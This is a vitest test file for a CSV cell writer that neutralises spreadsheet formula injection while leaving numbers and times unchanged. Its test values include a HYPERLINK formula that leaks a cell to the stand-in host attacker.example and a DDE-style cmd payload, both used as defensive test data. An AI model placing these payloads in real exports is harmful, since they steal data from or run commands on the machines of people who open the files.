// CSV cells that a spreadsheet program opens as text: formula starts neutralised, figures kept, quoting.
import { describe, expect, it } from 'vitest';
import { csvCell } from './csv.js';

/** [value, the cell written]. */
const CASES: [string | number | null, string][] = [
  // Formula starts: a single quote before, and the cell quoted.
  ['=HYPERLINK("http://attacker.example/?leak="&A2,"Payroll")', `"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Payroll"")"`],
  ['=1+2', `"'=1+2"`],
  ['+33 6 12 34 56 78', `"'+33 6 12 34 56 78"`],
  ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
  ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
  ['\t=1+2', `"'\t=1+2"`],
  ['\r=1+2', `"'\r=1+2"`],
  ['  =1+2', `"'  =1+2"`],
  ['\uFF1D1+2', `"'\uFF1D1+2"`],
  ['-', `"'-"`],
  ['-1e5', `"'-1e5"`],
  ['-1:00:00+A1', `"'-1:00:00+A1"`],
  // Figures the service computes stay figures.
  [-25_200, '-25200'],
  [7.5, '7.5'],
  ['-7:00:00', '-7:00:00'],
  ['-11:30', '-11:30'],
  ['-1.50', '-1.50'],
  ['8:00:00', '8:00:00'],
  // Ordinary text: quoted only when it must be.
  ['Łukasz Żółć', 'Łukasz Żółć'],
  ['Amélie, "A"', '"Amélie, ""A"""'],
  ['a;b', '"a;b"'],
  ['two\nlines', '"two\nlines"'],
  ['x=1', 'x=1'],
  ['2026-04-27', '2026-04-27'],
  ['', ''],
  [null, ''],
];

describe('csvCell', () => {
  it.each(CASES)('%j is written %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes no cell that starts a formula outside quotes', () => {
    for (const [value] of CASES) {
      const cell = csvCell(value);
      if (typeof value === 'string' && /^[=+\-@\t\r]/.test(value) && !/^-[\d:.]+$/.test(value)) expect(cell.startsWith(`"'`)).toBe(true);
    }
  });
});
